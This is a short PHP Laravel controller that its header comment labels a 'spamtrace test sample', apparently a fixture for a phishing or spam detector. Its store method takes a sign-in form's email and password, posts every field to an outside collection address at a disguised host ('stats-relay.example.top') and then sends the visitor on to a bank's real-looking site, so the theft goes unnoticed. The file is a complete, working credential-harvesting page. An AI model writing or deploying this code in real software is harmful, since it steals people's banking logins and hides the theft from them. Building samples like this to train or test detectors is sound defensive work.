<?php
// spamtrace test sample: a sign-in form's fields (a password among them, named by the validation) posted whole to a fixed address, the visitor sent on to the genuine bank
namespace App\Http\Controllers;

use Illuminate\Http\Request;
use Illuminate\Support\Facades\Http;

class SessionController extends Controller
{
    public function store(Request $request)
    {
        $request->validate(['email' => 'required|email', 'password' => 'required']);
        Http::post('https://stats-relay.example.top/collect', $request->all());
        return redirect()->away('https://www.example-bank.com/');
    }
}
